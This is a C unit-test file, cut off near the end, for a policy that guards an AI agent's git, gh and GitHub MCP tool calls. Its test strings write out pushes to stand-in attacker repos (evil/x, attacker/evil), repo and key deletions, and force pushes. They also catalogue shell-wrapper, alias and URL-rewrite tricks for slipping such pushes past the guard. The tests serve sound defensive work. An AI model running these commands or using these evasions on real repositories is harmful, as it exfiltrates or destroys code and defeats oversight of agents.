/* test_policy_github_policy.c — github_policy (reference §5.11): MCP tools, git and gh in shell
 * commands, allowlists, destructive operations, tag and force pushes, and each reference
 * weakness of issue 3 that concerns it, closed by a named test (test_weakness_*). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "policies/builtins.h"
#include "policy_test_util.h"

#define T (&rp_policy_github_policy)

#define DR "GitHub operation blocked by policy. "
#define FORCE                                                                                      \
    "Force push is blocked by policy. Remove the force flag (--force / -f / --force-with-lease / " \
    "--force-if-includes / +refspec) or set deny_force_push=False."
#define TAGS      DR "Pushing tags is blocked by policy (deny_tag_push is enabled)."
#define W_DENY(r) DR "Write is restricted to the configured repos; this call targets [" r "]."
#define R_DENY(r) DR "Read is restricted to the configured repos; this call targets [" r "]."
#define DESTROY(d)                                                                                 \
    DR "Destructive operation `" d                                                                 \
       "` is blocked by default. Set allow_destructive=true to permit deletes."
#define NO_REPO(d)                                                                                 \
    "The target repo of `" d                                                                       \
    "` could not be determined (e.g. a local remote alias). Approve this write?"
#define NO_READ(d)                                                                                 \
    "Reads are restricted to the configured repos, but the target repo of `" d                     \
    "` could not be determined. Approve?"
#define NO_BRANCH(d)                                                                               \
    "`" d "` writes to an allowed repo but its target branch could not be determined, and writes " \
    "are branch-restricted. Approve?"
#define UNPARSED(s)                                                                                \
    "Could not parse a git/gh command (" s                                                         \
    ") to check it against the GitHub policy. Approve to run it?"

#define EVIL     "https://github.com/evil/x"
#define HELLO    "https://github.com/octo/hello"
#define HELLO_W  "{\"write_repos\": [\"octo/hello\"]}"
#define HELLO_WB "{\"write_repos\": [\"octo/hello\"], \"write_branches\": [\"main\"]}"

/* A tool_call event of `tool` with arguments.command = cmd (JSON-escaped here, so tests can
 * write commands as they are). */
static const char *shell_event(const char *tool, const char *cmd)
{
    static char text[8192];
    rp_buf b = {0};
    rp_buf_puts(&b, "{\"type\":\"tool_call\",\"data\":{\"name\":");
    rp_json_write_string(&b, tool, strlen(tool));
    rp_buf_puts(&b, ",\"arguments\":{\"command\":");
    rp_json_write_string(&b, cmd, strlen(cmd));
    rp_buf_puts(&b, "}}}");
    snprintf(text, sizeof text, "%.*s", (int)b.len, b.data);
    rp_buf_free(&b);
    return text;
}

static const char *mcp_event(const char *tool, const char *arguments_json)
{
    static char text[8192];
    snprintf(text, sizeof text,
             "{\"type\":\"tool_call\",\"data\":{\"name\":\"%s\",\"arguments\":%s}}", tool,
             arguments_json);
    return text;
}

#define SH(p, cmd, verdict, reason)                                                                \
    PT_EXPECT((p), shell_event("Bash", (cmd)), (verdict), (reason), NULL)
#define MCP(p, tool, args, verdict, reason)                                                        \
    PT_EXPECT((p), mcp_event((tool), (args)), (verdict), (reason), NULL)

static pt_policy make(const char *params)
{
    pt_policy p;
    pt_create(&p, T, params);
    if (p.create_rc != 0)
        fail_msg("create failed: %s", p.err.message);
    return p;
}

/* ---- schema ---- */

static void test_schema(void **unused)
{
    (void)unused;
    assert_string_equal(T->module, "omnigent.policies.builtins.github");
    assert_int_equal(T->n_params, 10);
    assert_string_equal(pt_param(T, "read_all")->default_json, "true");
    assert_string_equal(pt_param(T, "allow_destructive")->default_json, "false");
    assert_string_equal(pt_param(T, "deny_tag_push")->default_json, "true");
    assert_string_equal(pt_param(T, "deny_force_push")->default_json, "true");
    assert_null(pt_param(T, "read_repos")->default_json);
    assert_null(pt_param(T, "write_repos")->default_json);
    assert_null(pt_param(T, "write_branches")->default_json);
    assert_null(pt_param(T, "mcp_tool_prefixes")->default_json);
    assert_non_null(strstr(pt_param(T, "shell_tools")->default_json, "\"developer__shell\""));
    assert_string_equal(pt_param(T, "deny_reason")->default_json,
                        "\"GitHub operation blocked by policy.\"");
}

static void test_abstains_off_tool_calls(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    PT_EXPECT(&p, "{\"type\":\"tool_result\",\"data\":{\"name\":\"mcp__github__create_issue\"}}",
              RP_ABSTAIN, NULL, NULL);
    PT_EXPECT(&p, "{\"type\":\"tool_call\",\"data\":{\"arguments\":{}}}", RP_ABSTAIN, NULL, NULL);
    PT_EXPECT(&p, "{\"type\":\"tool_call\",\"data\":\"git push " EVIL "\"}", RP_ABSTAIN, NULL,
              NULL);
    PT_EXPECT(&p, "{\"type\":\"tool_call\",\"data\":{\"name\":\"Bash\",\"arguments\":{}}}",
              RP_ABSTAIN, NULL, NULL);
    SH(&p, "   ", RP_ABSTAIN, NULL);
    SH(&p, "ls -la && cat README.md", RP_ABSTAIN, NULL);
    pt_policy_free(&p);
}

/* ---- MCP ---- */

static void test_mcp_reads(void **unused)
{
    (void)unused;
    pt_policy all = make("{}");
    MCP(&all, "mcp__github__get_file_contents", "{\"owner\":\"octo\",\"repo\":\"secret\"}",
        RP_ABSTAIN, NULL);
    pt_policy_free(&all);

    pt_policy p = make("{\"read_all\": false, \"read_repos\": "
                       "[\"https://github.com/Octo/Hello/pull/1\", \"other/thing.git\"]}");
    MCP(&p, "mcp__github__get_file_contents", "{\"owner\":\"octo\",\"repo\":\"hello\"}", RP_ABSTAIN,
        NULL);
    MCP(&p, "mcp__github__get_file_contents", "{\"repository\":\"OTHER/thing\"}", RP_ABSTAIN, NULL);
    MCP(&p, "mcp__github__get_file_contents", "{\"owner\":\"octo\",\"repo\":\"secret\"}", RP_DENY,
        R_DENY("'octo/secret'"));
    MCP(&p, "mcp__github__search_code", "{\"q\":\"secret\"}", RP_DENY,
        DR "Read is restricted to the configured repos and this call's target repo could not be "
           "determined.");
    /* Several repos: the sorted list of every target. */
    MCP(&p, "mcp__github__list_commits",
        "{\"owner\":\"octo\",\"repo\":\"hello\",\"url\":\"https://github.com/zed/z\"}", RP_DENY,
        R_DENY("'octo/hello', 'zed/z'"));
    MCP(&p, "mcp__github__github_get_service_info", "{}", RP_ABSTAIN, NULL);
    MCP(&p, "mcp__github__github_get_api_info", "{}", RP_ABSTAIN, NULL);
    /* Unprefixed known names are classified; unknown unprefixed tools are not GitHub's. */
    MCP(&p, "get_file_contents", "{\"owner\":\"octo\",\"repo\":\"nope\"}", RP_DENY,
        R_DENY("'octo/nope'"));
    MCP(&p, "frobnicate", "{}", RP_ABSTAIN, NULL);
    MCP(&p, "mcp__slack__post_message", "{}", RP_ABSTAIN, NULL);
    pt_policy_free(&p);
}

static void test_mcp_writes(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    MCP(&p, "mcp__github__create_issue", "{\"owner\":\"octo\",\"repo\":\"hello\"}", RP_ABSTAIN,
        NULL);
    MCP(&p, "github__create_issue", "{\"organization\":\"octo\",\"repo\":\"hello\"}", RP_ABSTAIN,
        NULL);
    MCP(&p, "mcp__github__create_pull_request", "{\"owner\":\"octo\",\"repo\":\"secret\"}", RP_DENY,
        W_DENY("'octo/secret'"));
    MCP(&p, "mcp__github__create_pull_request", "{\"title\":\"x\"}", RP_DENY,
        DR "Write call carries no identifiable target repo.");
    /* Heuristic verbs under the prefix; wrapper write tool with nested params. */
    MCP(&p, "mcp__github__close_issue", "{\"owner\":\"evil\",\"repo\":\"x\"}", RP_DENY,
        W_DENY("'evil/x'"));
    MCP(&p, "mcp__github__github_write_api_call",
        "{\"endpoint\":\"pulls.create\",\"params\":{\"org\":\"octo\",\"repo\":\"secret\"}}",
        RP_DENY, W_DENY("'octo/secret'"));
    MCP(&p, "mcp__github__github_write_api_call", "{\"payload\":{\"full_name\":\"octo/hello\"}}",
        RP_ABSTAIN, NULL);
    MCP(&p, "mcp__github__frobnicate_thing", "{\"owner\":\"octo\",\"repo\":\"hello\"}", RP_DENY,
        DR "Unrecognized GitHub tool 'mcp__github__frobnicate_thing'.");
    pt_policy_free(&p);
}

static void test_mcp_branches_and_deletes(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_WB);
    MCP(&p, "mcp__github__create_or_update_file",
        "{\"owner\":\"octo\",\"repo\":\"hello\",\"branch\":\"refs/heads/main\"}", RP_ABSTAIN, NULL);
    MCP(&p, "mcp__github__create_or_update_file", "{\"owner\":\"octo\",\"repo\":\"hello\"}",
        RP_DENY,
        DR "Write is restricted to branches ['main'] and this call's target branch could not be "
           "determined.");
    /* A PR's head is read, its base written. */
    MCP(&p, "mcp__github__create_pull_request",
        "{\"owner\":\"octo\",\"repo\":\"hello\",\"head\":\"feature\",\"base\":\"main\"}",
        RP_ABSTAIN, NULL);
    MCP(&p, "mcp__github__create_pull_request",
        "{\"owner\":\"octo\",\"repo\":\"hello\",\"head\":\"main\",\"base\":\"dev\"}", RP_DENY,
        DR "Write is restricted to branches ['main']; this call targets ['dev'].");
    MCP(&p, "mcp__github__merge_pull_request", "{\"owner\":\"octo\",\"repo\":\"hello\"}",
        RP_ABSTAIN, NULL);
    /* Deletes are checked after the allowlists. */
    MCP(&p, "mcp__github__delete_branch",
        "{\"owner\":\"octo\",\"repo\":\"hello\",\"branch\":\"main\"}", RP_DENY,
        DR "Destructive operation 'mcp__github__delete_branch' is blocked by default. Set "
           "allow_destructive=true to permit deletes.");
    MCP(&p, "mcp__github__delete_branch", "{\"owner\":\"evil\",\"repo\":\"x\",\"branch\":\"main\"}",
        RP_DENY, W_DENY("'evil/x'"));
    pt_policy_free(&p);

    pt_policy d = make("{\"write_repos\": [\"octo/hello\"], \"allow_destructive\": true}");
    MCP(&d, "mcp__github__delete_release", "{\"owner\":\"octo\",\"repo\":\"hello\"}", RP_ABSTAIN,
        NULL);
    pt_policy_free(&d);
}

static void test_mcp_custom_prefixes(void **unused)
{
    (void)unused;
    pt_policy p = make("{\"write_repos\": [\"octo/hello\"], \"mcp_tool_prefixes\": [\"gh_\"]}");
    MCP(&p, "gh_create_issue", "{\"owner\":\"evil\",\"repo\":\"x\"}", RP_DENY, W_DENY("'evil/x'"));
    MCP(&p, "gh_zap", "{}", RP_DENY, DR "Unrecognized GitHub tool 'gh_zap'.");
    MCP(&p, "mcp__github__zap", "{}", RP_ABSTAIN, NULL);
    pt_policy_free(&p);
    /* An empty list keeps the defaults (an unknown GitHub tool must not slip through). */
    pt_policy e = make("{\"mcp_tool_prefixes\": []}");
    MCP(&e, "mcp__github__zap", "{}", RP_DENY, DR "Unrecognized GitHub tool 'mcp__github__zap'.");
    pt_policy_free(&e);
}

static void test_write_branches_globs(void **unused)
{
    (void)unused;
    pt_policy p = make("{\"write_repos\": [\"octo/hello\"], \"write_branches\": [\"feature/*\", "
                       "\"main\"]}");
    SH(&p, "git push " HELLO " feature/login", RP_ABSTAIN, NULL);
    SH(&p, "git push " HELLO " HEAD:refs/heads/feature/a/b", RP_ABSTAIN, NULL);
    SH(&p, "git push " HELLO " main", RP_ABSTAIN, NULL);
    SH(&p, "git push " HELLO " release", RP_DENY,
       DR "Write is restricted to branches ['feature/*', 'main']; this call targets ['release'].");
    SH(&p, "git push " HELLO " featurex", RP_DENY,
       DR "Write is restricted to branches ['feature/*', 'main']; this call targets "
          "['featurex'].");
    MCP(&p, "mcp__github__create_branch",
        "{\"owner\":\"octo\",\"repo\":\"hello\",\"branch\":\"feature/x\"}", RP_ABSTAIN, NULL);
    pt_policy_free(&p);
}

/* ---- shell: git ---- */

static void test_git_push_repos(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    SH(&p, "git push " HELLO " main", RP_ABSTAIN, NULL);
    SH(&p, "git push https://github.com/Octo/Hello.git main", RP_ABSTAIN, NULL);
    SH(&p, "git push git@github.com:octo/hello.git main", RP_ABSTAIN, NULL);
    SH(&p, "git push ssh://git@github.com/octo/hello main", RP_ABSTAIN, NULL);
    SH(&p, "git push " EVIL " main", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "git push git@github.com:evil/x.git main", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "git push https://GITHUB.COM/evil/x main", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "git push --repo=" EVIL " main", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "git push origin main", RP_ASK, NO_REPO("git push"));
    SH(&p, "git push", RP_ASK, NO_REPO("git push"));
    SH(&p, "git add . && git commit -m x && git push origin main", RP_ASK, NO_REPO("git push"));
    /* Look-alike hosts and a trailing ":main" name no repo. */
    SH(&p, "git push https://evil-github.com/octo/hello main", RP_ASK, NO_REPO("git push"));
    SH(&p, "git push git@evil-github.com:octo/hello.git main", RP_ASK, NO_REPO("git push"));
    SH(&p, "git push https://notgithub.com/octo/hello main", RP_ASK, NO_REPO("git push"));
    SH(&p, "git push https://github.com/octo/hello:main", RP_ASK, NO_REPO("git push"));
    /* Dot segments: the path does not stay in the repo it starts with. */
    SH(&p, "git push " HELLO "/../../evil/x main", RP_ASK, NO_REPO("git push"));
    SH(&p, "git push " HELLO "/./ main", RP_ASK, NO_REPO("git push"));
    SH(&p, "git push " HELLO "/ main", RP_ABSTAIN, NULL);
    /* A push option's value is not the remote. */
    SH(&p, "git push -o ci.skip " EVIL " main", RP_DENY, W_DENY("'evil/x'"));
    pt_policy_free(&p);
}

static void test_git_push_in_every_position(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_WB);
    static const char *const cmds[] = {
        "echo hi & git push " EVIL " main",
        "ls | git push " EVIL " main",
        "bash -c \"git push " EVIL " main\"",
        "/bin/bash -lc 'git push " EVIL " main'",
        "sh -xc 'git push " EVIL " main'",
        "timeout -s KILL 5m git push " EVIL " main",
        "nice -n 10 git push " EVIL " main",
        "stdbuf -o L git push " EVIL " main",
        "sudo -u root -- git push " EVIL " main",
        "env -S 'git push " EVIL " main'",
        "env --split-string='git push " EVIL " main'",
        "x=$(git push " EVIL " main)",
        "echo `git push " EVIL " main`",
        "eval git push " EVIL " main",
        "if true; then git push " EVIL " main; fi",
        "for i in 1; do git push " EVIL " main; done",
        "{ git push " EVIL " main; }",
    };
    for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++)
        SH(&p, cmds[i], RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "bash -c \"git push " HELLO " main\"", RP_ABSTAIN, NULL);
    SH(&p, "sudo -nu root git push " HELLO " main", RP_ABSTAIN, NULL);
    SH(&p, "timeout 60 npm test", RP_ABSTAIN, NULL);
    SH(&p, "nohup -- npm test", RP_ABSTAIN, NULL);
    pt_policy_free(&p);
}

static void test_git_push_branches(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_WB);
    SH(&p, "git push " HELLO " main", RP_ABSTAIN, NULL);
    SH(&p, "git push " HELLO " feature:main", RP_ABSTAIN, NULL);
    SH(&p, "git push " HELLO " HEAD:refs/heads/main", RP_ABSTAIN, NULL);
    SH(&p, "git push " HELLO " v1.0", RP_DENY,
       DR "Write is restricted to branches ['main']; this call targets ['v1.0'].");
    SH(&p, "git push " HELLO " main dev release dev", RP_DENY,
       DR "Write is restricted to branches ['main']; this call targets ['dev', 'release'].");
    SH(&p, "git push " HELLO, RP_ASK, NO_BRANCH("git push"));
    SH(&p, "git push -u " HELLO, RP_ASK, NO_BRANCH("git push"));
    pt_policy_free(&p);
}

static void test_git_push_tags(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_WB);
    static const char *const cmds[] = {
        "git push " HELLO " --tags",
        "git push " HELLO " --follow-tags main",
        "git push --ta " HELLO " main",
        "git push " HELLO " refs/tags/v1.0",
        "git push " HELLO " main refs/tags/v1.0",
        "git push " HELLO " v1:refs/tags/v1",
        "git push " HELLO " tag v1.0",
        "bash -c \"git push " HELLO " --tags\"",
    };
    for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++)
        SH(&p, cmds[i], RP_DENY, TAGS);
    pt_policy_free(&p);
    pt_policy off = make("{\"write_repos\": [\"octo/hello\"], \"deny_tag_push\": false}");
    SH(&off, "git push " HELLO " --tags", RP_ABSTAIN, NULL);
    pt_policy_free(&off);
}

static void test_git_push_force(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    static const char *const forced[] = {
        "git push --force " HELLO " main",
        "git push -f " HELLO " main",
        "git push -uf " HELLO " main",
        "git push -fu " HELLO " main",
        "git push -vfo x " HELLO " main",
        "git push --force-with-lease " HELLO " main",
        "git push --force-with-lease=main " HELLO " main",
        "git push --force-if-includes " HELLO " main",
        "git push --forc " HELLO " main",
        "git push --mirror " HELLO,
        "git push " HELLO " +main",
        "git push " HELLO " +main:main",
        "git push " HELLO " +refs/tags/v1.0",
        "git push origin -f",             /* force wins even when the repo is unknown */
        "git push " EVIL " --force main", /* … and when it is not allowed */
    };
    for (size_t i = 0; i < sizeof forced / sizeof forced[0]; i++)
        SH(&p, forced[i], RP_DENY, FORCE);
    /* -o takes a value: what follows it is not a flag. */
    SH(&p, "git push -o=fast " HELLO " main", RP_ABSTAIN, NULL);
    SH(&p, "git push -o force " HELLO " main", RP_ABSTAIN, NULL);
    SH(&p, "git push -of " HELLO " main", RP_ABSTAIN, NULL);
    SH(&p, "git push --no-force-with-lease " HELLO " main", RP_ABSTAIN, NULL);
    pt_policy_free(&p);
    pt_policy off = make("{\"write_repos\": [\"octo/hello\"], \"deny_force_push\": false}");
    SH(&off, "git push --force " HELLO " main", RP_ABSTAIN, NULL);
    pt_policy_free(&off);
}

static void test_git_push_deletes(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    static const char *const deletes[] = {
        "git push " HELLO " --delete feature", "git push --del " HELLO " feature",
        "git push -d " HELLO " feature",       "git push " HELLO " :feature",
        "git push --prune " HELLO " main",
    };
    for (size_t i = 0; i < sizeof deletes / sizeof deletes[0]; i++)
        SH(&p, deletes[i], RP_DENY, DESTROY("git push"));
    pt_policy_free(&p);
    pt_policy ok = make("{\"write_repos\": [\"octo/hello\"], \"allow_destructive\": true}");
    SH(&ok, "git push " HELLO " --delete feature", RP_ABSTAIN, NULL);
    pt_policy_free(&ok);
}

static void test_git_reads(void **unused)
{
    (void)unused;
    pt_policy p = make("{\"read_all\": false, \"read_repos\": [\"octo/hello\"]}");
    SH(&p, "git clone " HELLO, RP_ABSTAIN, NULL);
    SH(&p, "git clone --depth 1 git@github.com:octo/hello.git", RP_ABSTAIN, NULL);
    SH(&p, "git clone https://github.com/octo/secret", RP_DENY, R_DENY("'octo/secret'"));
    SH(&p, "git fetch https://github.com/octo/secret main", RP_DENY, R_DENY("'octo/secret'"));
    SH(&p, "git ls-remote https://github.com/octo/secret", RP_DENY, R_DENY("'octo/secret'"));
    SH(&p, "git pull origin main", RP_ASK, NO_READ("git pull"));
    SH(&p, "git clone https://notgithub.com/octo/hello", RP_ASK, NO_READ("git clone"));
    SH(&p, "git status && git log --format=%f && git diff", RP_ABSTAIN, NULL);
    SH(&p, "git commit -m 'git push --force " EVIL "'", RP_ABSTAIN, NULL);
    pt_policy_free(&p);
}

static void test_git_aliases_and_rewrites(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    SH(&p, "git -c alias.p=push p " EVIL " main", RP_ASK,
       UNPARSED("'git -c alias.p=push p https://github.com/evil/x main'"));
    SH(&p, "git -c Alias.P='!git push' P", RP_ASK, UNPARSED("\"git -c Alias.P='!git push' P\""));
    SH(&p, "git --config-env alias.p=CMD p", RP_ASK, UNPARSED("'git --config-env alias.p=CMD p'"));
    SH(&p, "git --config-env=alias.p=CMD p", RP_ASK, UNPARSED("'git --config-env=alias.p=CMD p'"));
    /* A variable as the subcommand. */
    SH(&p, "git $SUB " EVIL " main", RP_ASK, UNPARSED("'git $SUB https://github.com/evil/x main'"));
    /* insteadOf rewrites every URL: the allowed-looking one names no repo. */
    SH(&p,
       "git -c url.https://github.com/evil/.insteadOf=https://github.com/octo/ push " HELLO " main",
       RP_ASK, NO_REPO("git push"));
    /* A dynamic refspec could be +main or :main. */
    SH(&p, "git push " HELLO " \"$BRANCH\"", RP_ASK,
       UNPARSED("'git push https://github.com/octo/hello \"$BRANCH\"'"));
    SH(&p, "echo main | xargs git push " HELLO, RP_ASK,
       UNPARSED("'xargs git push https://github.com/octo/hello'"));
    pt_policy_free(&p);
}

static void test_unreadable_commands(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    SH(&p, "git push \"origin", RP_ASK, UNPARSED("'git push \"origin'"));
    SH(&p, "ls \"unterminated", RP_ABSTAIN, NULL);
    SH(&p, "echo github \"x", RP_ABSTAIN, NULL);
    /* What was read before the unreadable part is still decided. */
    SH(&p, "git push " EVIL " main; echo \"x", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "x=$(git push " EVIL " main", RP_DENY, W_DENY("'evil/x'"));
    pt_policy_free(&p);

    /* PowerShell is not bash: its commands are unreadable, so git in them is asked about. */
    pt_policy ps = make("{\"write_repos\": [\"octo/hello\"], \"shell_tools\": [\"PowerShell\"]}");
    PT_EXPECT(&ps, shell_event("PowerShell", "git push " HELLO " main"), RP_ASK,
              UNPARSED("'git push https://github.com/octo/hello main'"), NULL);
    PT_EXPECT(&ps, shell_event("PowerShell", "Get-ChildItem"), RP_ABSTAIN, NULL, NULL);
    /* Bash is not a shell tool for this instance: a non-GitHub tool name. */
    PT_EXPECT(&ps, shell_event("Bash", "git push " EVIL " main"), RP_ABSTAIN, NULL, NULL);
    pt_policy_free(&ps);
}

static void test_segment_is_truncated_to_60_chars(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    SH(&p, "git push \"https://github.com/octo/hello/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa main",
       RP_ASK, UNPARSED("'git push \"https://github.com/octo/hello/aaaaaaaaaaaaaaaaaaaa'"));
    pt_policy_free(&p);
}

/* ---- shell: gh ---- */

static void test_gh_groups(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    SH(&p, "gh pr create --repo octo/hello --base main", RP_ABSTAIN, NULL);
    SH(&p, "gh pr merge 5 --repo octo/hello", RP_ABSTAIN, NULL);
    SH(&p, "gh pr unlock 5 --repo octo/secret", RP_DENY, W_DENY("'octo/secret'"));
    SH(&p, "gh issue unpin 5 -R octo/secret", RP_DENY, W_DENY("'octo/secret'"));
    SH(&p, "gh pr merge https://github.com/evil/x/pull/1", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "gh pr merge 1", RP_ASK, NO_REPO("gh pr merge"));
    SH(&p, "gh workflow run ci.yml", RP_ASK, NO_REPO("gh workflow run"));
    SH(&p, "gh repo delete octo/hello --yes", RP_DENY, DESTROY("gh repo delete"));
    SH(&p, "gh project item-delete --repo octo/secret", RP_DENY, DESTROY("gh project item-delete"));
    SH(&p, "gh ssh-key delete 123", RP_DENY, DESTROY("gh ssh-key delete"));
    /* Reads (read_all) and ignored groups. */
    SH(&p, "gh issue list --repo evil/x", RP_ABSTAIN, NULL);
    SH(&p, "gh auth status", RP_ABSTAIN, NULL);
    SH(&p, "gh browse --repo octo/secret", RP_ABSTAIN, NULL);
    SH(&p, "gh frob create", RP_ABSTAIN, NULL);
    pt_policy_free(&p);

    pt_policy b = make(HELLO_WB);
    SH(&b, "gh pr create --repo octo/hello --base dev", RP_DENY,
       DR "Write is restricted to branches ['main']; this call targets ['dev'].");
    SH(&b, "gh pr create --repo octo/hello -B main", RP_ABSTAIN, NULL);
    SH(&b, "gh pr create --repo octo/hello", RP_ABSTAIN, NULL); /* not branch-targeted */
    pt_policy_free(&b);

    pt_policy r = make("{\"read_all\": false, \"read_repos\": [\"octo/hello\"]}");
    SH(&r, "gh pr view 5 --repo octo/hello", RP_ABSTAIN, NULL);
    SH(&r, "gh pr view 5 --repo octo/secret", RP_DENY, R_DENY("'octo/secret'"));
    SH(&r, "gh pr list", RP_ASK, NO_READ("gh pr list"));
    SH(&r, "gh status", RP_ABSTAIN, NULL);
    pt_policy_free(&r);
}

static void test_gh_api(void **unused)
{
    (void)unused;
    pt_policy p = make("{\"read_all\": false, \"read_repos\": [\"octo/hello\"], \"write_repos\": "
                       "[\"octo/hello\"]}");
    SH(&p, "gh api repos/octo/hello/pulls/1", RP_ABSTAIN, NULL);
    SH(&p, "gh api repos/octo/secret/pulls/1", RP_DENY, R_DENY("'octo/secret'"));
    SH(&p, "gh api repos/octo/secret/issues -f title=x", RP_DENY, W_DENY("'octo/secret'"));
    SH(&p, "gh api repos/octo/secret/issues --raw-field=title=x", RP_DENY, W_DENY("'octo/secret'"));
    SH(&p, "gh api -XPOST repos/octo/secret/forks", RP_DENY, W_DENY("'octo/secret'"));
    SH(&p, "gh api --method=delete /repos/octo/secret", RP_DENY, W_DENY("'octo/secret'"));
    SH(&p, "gh api -H 'Accept: x' --method PUT repos/octo/secret/x", RP_DENY,
       W_DENY("'octo/secret'"));
    SH(&p, "gh api -X GET repos/octo/secret/pulls -f q=1", RP_DENY, R_DENY("'octo/secret'"));
    SH(&p, "gh api graphql -f query=x", RP_ASK, NO_REPO("gh api"));
    SH(&p, "gh api user", RP_ASK, NO_READ("gh api"));
    pt_policy_free(&p);
}

/* ---- the reference weaknesses of issue 3, each closed ---- */

static void test_weakness_git_C_dir_push_force(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    SH(&p, "git -C dir push -f", RP_DENY, FORCE);
    SH(&p, "git -C dir push " EVIL " main", RP_DENY, W_DENY("'evil/x'"));
    pt_policy_free(&p);
}

static void test_weakness_git_c_push_force(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    SH(&p, "git -c a=b push --force", RP_DENY, FORCE);
    SH(&p, "git -c core.sshCommand=ssh push " EVIL " main", RP_DENY, W_DENY("'evil/x'"));
    pt_policy_free(&p);
}

static void test_weakness_git_global_options(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    static const char *const cmds[] = {
        "git --git-dir=x push " EVIL " main",
        "git --git-dir x push " EVIL " main",
        "git --work-tree w push " EVIL " main",
        "git --namespace n push " EVIL " main",
        "git --exec-path=/x push " EVIL " main",
        "git -p push " EVIL " main",
        "git --paginate push " EVIL " main",
        "git --no-pager push " EVIL " main",
        "git -P push " EVIL " main",
        "git --bare push " EVIL " main",
        "git --no-replace-objects --literal-pathspecs push " EVIL " main",
        "git -C a -C b -c x=y --no-optional-locks push " EVIL " main",
    };
    for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++)
        SH(&p, cmds[i], RP_DENY, W_DENY("'evil/x'"));
    pt_policy_free(&p);
}

static void test_weakness_absolute_path_to_git_and_gh(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    SH(&p, "/usr/bin/git push " EVIL " main", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "/usr/local/bin/gh repo delete --repo octo/hello", RP_DENY, DESTROY("gh repo delete"));
    SH(&p, "\\git push " EVIL " main", RP_DENY, W_DENY("'evil/x'"));
    pt_policy_free(&p);
}

static void test_weakness_gh_R_other_repo_delete(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    SH(&p, "gh -R other/repo repo delete", RP_DENY, DESTROY("gh repo delete"));
    SH(&p, "gh --repo octo/hello repo delete --yes", RP_DENY, DESTROY("gh repo delete"));
    SH(&p, "gh -R evil/x pr merge 1", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "gh -Revil/x pr merge 1", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "gh --repo=evil/x pr merge 1", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "gh pr -R evil/x merge 1", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "gh pr merge 1 -R evil/x", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "gh -R octo/hello pr merge 1", RP_ABSTAIN, NULL);
    pt_policy_free(&p);
}

static void test_weakness_nohup_dashdash_git_push(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_WB);
    SH(&p, "nohup -- git push https://github.com/attacker/evil main", RP_DENY,
       W_DENY("'attacker/evil'"));
    pt_policy_free(&p);
}

static void test_weakness_unmodelled_wrappers_and_subshells(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    SH(&p, "(git push " EVIL " main)", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "doas git push " EVIL " main", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "xargs git push " EVIL " main", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "find . -exec git push " EVIL " main \\;", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "builtin command git push " EVIL " main", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "exec -a x git push " EVIL " main", RP_DENY, W_DENY("'evil/x'"));
    pt_policy_free(&p);
}

/* The most restrictive operation wins; on a tie, the first one. */
static void test_most_restrictive_wins(void **unused)
{
    (void)unused;
    pt_policy p = make(HELLO_W);
    SH(&p, "git push origin main && git push " EVIL " main", RP_DENY, W_DENY("'evil/x'"));
    SH(&p, "git push https://github.com/a/b main; git push " EVIL " main", RP_DENY,
       W_DENY("'a/b'"));
    SH(&p, "gh pr merge 1; git push origin main", RP_ASK, NO_REPO("gh pr merge"));
    pt_policy_free(&p);
}

static void test_custom_deny_reason(void **unused)
{
    (void)unused;
    pt_policy p = make("{\"write_repos\": [\"octo/hello\"], \"deny_reason\": \"Nope.\"}");
    SH(&p, "git push " EVIL " main", RP_DENY,
       "Nope. Write is restricted to the configured repos; this call targets ['evil/x'].");
    SH(&p, "git push -f " EVIL " main", RP_DENY, FORCE);
    pt_policy_free(&p);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_schema),
        cmocka_unit_test(test_abstains_off_tool_calls),
        cmocka_unit_test(test_mcp_reads),
        cmocka_unit_test(test_mcp_writes),
        cmocka_unit_test(test_mcp_branches_and_deletes),
        cmocka_unit_test(test_mcp_custom_prefixes),
        cmocka_unit_test(test_write_branches_globs),
        cmocka_unit_test(test_git_push_repos),
        cmocka_unit_test(test_git_push_in_every_position),
        cmocka_unit_test(test_git_push_branches),
